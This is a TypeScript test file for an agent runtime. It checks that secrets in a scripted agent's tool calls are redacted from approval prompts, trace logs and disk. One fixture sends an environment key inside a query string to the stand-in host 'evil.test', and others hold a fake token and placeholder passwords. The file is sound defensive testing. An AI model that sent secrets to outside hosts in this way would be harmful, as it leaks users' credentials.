/** Secrets that an agent gives to a tool stand neither in the log nor in what people are shown. */
import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { redaction, Session, scripted, tool } from "../../runtime/index.ts";
import { nextStop } from "../runtime/asks/asking.ts";
import { holdCaseCount } from "./attack-table.ts";

const KEY = "correct-horse/battery=staple";
const TOKEN = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";

const KNOWN = [
  ["as it is", { body: KEY }],
  ["within a text", { body: `the key is ${KEY}.` }],
  ["in an address", { url: `https://evil.test/?q=${encodeURIComponent(KEY)}` }],
  ["in JSON within a text", { body: JSON.stringify({ key: KEY }) }],
  ["deep in a list", { body: [{ of: [KEY] }] }],
] as const;

const LIKELY = [
  ["the form of a token", { body: `use ${TOKEN}` }, TOKEN],
  ["the name of a secret", { api_key: "hunter22" }, "hunter22"],
  ["the name of a secret, as a header", { h: [{ name: "cookie", value: "hunter33" }] }, "hunter33"],
] as const;

const text = `model m = "scripted"
config { guard: { approve: "always" } }
graph G() returns report {
  state { report: string = "" }
  agent work { model m; tools send; prompt \`go\`; writes report; limit 20 turns }
  start -> work -> end
}`;

const home = mkdtempSync(join(tmpdir(), "madrigal-secrets-"));
const session = new Session({ env: { MADRIGAL_HOME: home, MY_API_KEY: KEY } });
afterAll(async () => {
  await session.close();
  rmSync(home, { recursive: true });
});

/** The questions of a run that makes all of these calls, as people see them, the rows of its trace, and its bytes on disk. */
const left = { asked: [] as string[], rows: "", disk: "" };

beforeAll(async () => {
  const options = { effect: "external", description: "sends", input: { type: "object" } } as const;
  const scope = { send: tool(() => "sent", options) };
  const inputs = [...KNOWN, ...LIKELY].map(([, input]) => input);
  const turns = inputs.map((input) => ({ calls: [{ tool: "send", input }] }));
  const models = { m: scripted({ work: [...turns, "done"] }) };
  const run = session.compile(text, { scope }).G?.run({}, { models });
  if (run === undefined) throw new Error("no graph");
  for (const _ of inputs) {
    await nextStop(run);
    left.asked.push(JSON.stringify(redaction.shownValue(run.interrupts, run as never)));
    await run.answer(run.interrupts[0]?.id ?? "", { kind: "approve" });
  }
  await run.output;
  const traces = await session.traces();
  const rows = await traces.query(
    `SELECT request::VARCHAR AS request FROM tool_calls WHERE run_id = '${run.id}'`,
  );
  left.rows = rows.map(({ request }) => request).join("\n");
  const files = readdirSync(home, { recursive: true, withFileTypes: true });
  const bytes = files.flatMap((one) =>
    one.isFile() ? [readFileSync(join(one.parentPath, one.name), "latin1")] : [],
  );
  left.disk = bytes.join("\n");
});

test.each(KNOWN)("a secret of the environment, %s", (title) => {
  const asked = left.asked[KNOWN.findIndex(([of]) => of === title)];
  expect(asked).toContain("⟦secret:MY_API_KEY⟧");
  expect(left.rows).toContain("⟦secret:MY_API_KEY⟧");
  for (const form of [KEY, encodeURIComponent(KEY)]) {
    expect(asked).not.toContain(form);
    expect(left.rows).not.toContain(form);
    expect(left.disk).not.toContain(form);
  }
});

test.each(LIKELY)("what has %s is not shown", (title, _, secret) => {
  const asked = left.asked[KNOWN.length + LIKELY.findIndex(([of]) => of === title)];
  expect(asked).toContain("send");
  expect(asked).not.toContain(secret);
  expect(left.rows).not.toContain(secret);
});

holdCaseCount();
